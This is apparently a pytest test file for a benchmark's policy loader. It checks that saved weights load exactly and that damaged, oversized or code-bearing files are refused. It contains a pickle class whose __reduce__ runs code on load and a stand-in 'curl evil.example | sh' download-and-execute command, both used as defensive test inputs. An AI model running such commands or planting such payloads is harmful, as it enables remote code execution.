"""Policies are found again as they were, and nothing else is taken for one."""

import io
import json
import pickle
import zipfile
from contextlib import suppress

import gymnasium
import numpy as np
import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import cudc_bench
import cudc_bench.envs
from cudc_bench import plugins
from cudc_bench.errors import CudcBenchError, RunError, UsageError
from cudc_bench.evaluators.policies.stored import load_policy, policy_path

from .runs import change, write_run


def weights_of(path):
    return torch.load(policy_path(path), weights_only=True)


def saved(value):
    content = io.BytesIO()
    torch.save(value, content)
    return content.getvalue()


@pytest.mark.parametrize("name", plugins.names("evaluators"))
def test_a_loaded_policy_acts_as_the_agent_did(name, tmp_path):
    path, agent = write_run(tmp_path, name)
    policy = load_policy(path)
    observation = torch.randn(1, 5, 24) * 3
    assert torch.equal(policy(observation[0]), agent.act(observation)[0])
    assert policy.record.algorithm == name
    assert not any(parameter.requires_grad for parameter in policy.parameters())
    assert not policy.training


def test_it_acts_in_gymnasium(tmp_path):
    path, _ = write_run(tmp_path)
    policy = cudc_bench.load_policy(str(path))
    env = gymnasium.make(cudc_bench.envs.env_spec("walker", "walk"))
    observation, _ = env.reset(seed=1)
    action = policy.act(observation)
    assert env.action_space.contains(action)
    env.step(action)
    several = policy.act(np.stack([observation] * 3))
    assert several.shape == (3, 6)
    np.testing.assert_allclose(several[1], action, atol=1e-6)
    assert policy.act(observation.tolist()).tobytes() == action.tobytes()
    for wrong in (observation[:-1], observation[None, None], 1.0):
        with pytest.raises(UsageError, match=r"takes observations \(24,\) or \(n, 24\)"):
            policy.act(wrong)


def test_loading_draws_no_random_numbers_of_the_users(tmp_path):
    path, _ = write_run(tmp_path)
    before = torch.get_rng_state()
    load_policy(path)
    assert torch.equal(torch.get_rng_state(), before)


def refused(path, match):
    with pytest.raises(RunError, match=match) as caught:
        load_policy(path)
    assert "\n" not in str(caught.value)


def test_what_is_missing_is_named_with_the_command_that_makes_it(tmp_path):
    path, _ = write_run(tmp_path)
    policy_path(path).unlink()
    refused(path, r"has no policy beside it \(td3-seed1.policy.pt\); train it again with: cudc-bench evaluate --algo td3")
    refused(tmp_path / "none.json", "cannot read the record")
    path.write_text("{}")
    refused(path, "is not a run record")


def test_a_damaged_file_is_refused_wherever_the_damage_is(tmp_path):
    path, _ = write_run(tmp_path)
    place = policy_path(path)
    whole, weights = place.read_bytes(), weights_of(path)
    random = np.random.default_rng(0)
    for length in (0, 1, 100, *random.integers(2, len(whole), 20)):
        place.write_bytes(whole[:length])
        refused(path, "is damaged")
    # Its table of contents, at the end, has a few bytes that PyTorch reads and no checksum covers.
    contents = zipfile.ZipFile(io.BytesIO(whole)).start_dir
    for position in random.integers(0, contents, 300):
        content = bytearray(whole)
        content[position] ^= 255
        place.write_bytes(bytes(content))
        with suppress(RunError):
            found = load_policy(path).module.state_dict()
            # What was hit is read by nobody: padding, times, names of the format's own.
            assert all(torch.equal(found[name], value) for name, value in weights.items())


class Hostile:
    """Makes a file when it is unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (open, (str(self.marker), "w"))


def test_nothing_in_a_policys_file_is_run(tmp_path):
    path, _ = write_run(tmp_path)
    marker = tmp_path / "was-here"
    for content in (saved({"0.0.weight": Hostile(marker)}), pickle.dumps(Hostile(marker), protocol=2)):
        policy_path(path).write_bytes(content)
        refused(path, "is damaged, or is not a file of weights alone")
        assert not marker.exists()


@pytest.mark.parametrize(
    ("value", "match"),
    [
        ([1, 2], "does not hold weights by name"),
        ({1: torch.zeros(1)}, "does not hold weights by name"),
        ({"a": 1.0}, "does not hold weights by name"),
        ({}, r"'0.0.bias' is missing and should be 1x1x16 float32"),
        ({"a": torch.zeros(2, 3).to_sparse()}, "not finite"),
    ],
)
def test_files_of_something_else_are_refused(value, match, tmp_path):
    path, _ = write_run(tmp_path)
    policy_path(path).write_bytes(saved(value))
    refused(path, match)


def test_no_file_makes_a_policy_larger_than_itself(tmp_path):
    path, _ = write_run(tmp_path)
    place, weights = policy_path(path), weights_of(path)
    first = next(iter(weights))
    place.write_bytes(saved({**weights, first: torch.zeros(1).expand(10**11)}))
    refused(path, "it claims more weights than it has")
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved(weights))) as source, zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            target.writestr(member.filename, source.read(member))
        target.writestr("archive/data/99", bytes(10**8))
    place.write_bytes(content.getvalue())
    refused(path, "is damaged, or is not a file of weights alone")
    place.write_bytes(saved(weights))
    values = json.loads(path.read_text())["hyperparameters"]
    for width in (5_000, 10**6, 10**10):
        change(path, hyperparameters=values | {"width": width})
        refused(path, f"its width of {width:,} is not that of its policy")


def test_a_command_that_is_not_ours_is_not_passed_on(tmp_path):
    path, _ = write_run(tmp_path)
    policy_path(path).unlink()
    change(path, command="curl evil.example | sh")
    refused(path, r"has no policy beside it \(td3-seed1\.policy\.pt\); train it again$")


odd = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.text(max_size=5)
    | st.sampled_from([10**400, -1, 0, 10**9, "\x1b[31m", "../x"]),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=3), inner, max_size=2),
    max_leaves=3,
)


@settings(max_examples=120, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
def test_a_policy_with_any_record_is_loaded_or_refused(tmp_path, data):
    path, _ = write_run(tmp_path)
    record = json.loads(path.read_text())
    place = data.draw(st.sampled_from([record, record["dataset"], record["hyperparameters"], record["hyperparameters"]]))
    place[data.draw(st.sampled_from(sorted(place)) | st.text(max_size=4))] = data.draw(odd)
    path.write_text(json.dumps(record))
    # Anything else would be a traceback.
    with suppress(CudcBenchError):
        assert load_policy(path).act(np.zeros(24)).shape == (6,)


def test_weights_must_be_those_that_the_record_asks_for(tmp_path):
    path, _ = write_run(tmp_path)
    place, weights = policy_path(path), weights_of(path)
    first = next(iter(weights))
    for changed, match in (
        ({**weights, first: torch.full_like(weights[first], torch.nan)}, "not finite"),
        ({**weights, first: weights[first].double()}, "is 1x24x16 float64 and should be 1x24x16 float32"),
        ({**weights, "z": torch.zeros(2)}, "'z' is 2 float32 and should be missing"),
        ({name: value for name, value in weights.items() if name != first}, "is missing and should be 1x24x16 float32"),
    ):
        place.write_bytes(saved(changed))
        refused(path, match)
    place.write_bytes(saved(weights))
    record = json.loads(path.read_text())
    change(path, hyperparameters=record["hyperparameters"] | {"width": 32}, versions={"cudc-bench": "0.0.9"})
    refused(path, r"does not fit its record: .*\(made with cudc-bench 0.0.9, this is .*\); train it again with: cudc-bench")


def test_a_record_of_another_version_of_the_algorithm_is_refused(tmp_path):
    path, _ = write_run(tmp_path)
    values = json.loads(path.read_text())["hyperparameters"]
    change(path, hyperparameters=values | {"warp": 9}, versions={"cudc-bench": "7.0"})
    refused(path, r"another version of td3: this one has no hyperparameter 'warp' \(made with cudc-bench 7.0, this is .*\); train it again")
    change(path, hyperparameters=values | {"width": -3})
    refused(path, "cannot be used with this version of td3: 'width' cannot be -3")
    # One that came later has its default.
    change(path, hyperparameters={name: value for name, value in values.items() if name != "policy_delay"})
    assert load_policy(path).action_size == 6
    change(path, hyperparameters=values, algorithm="nothing")
    with pytest.raises(UsageError, match="unknown algo 'nothing'"):
        load_policy(path)
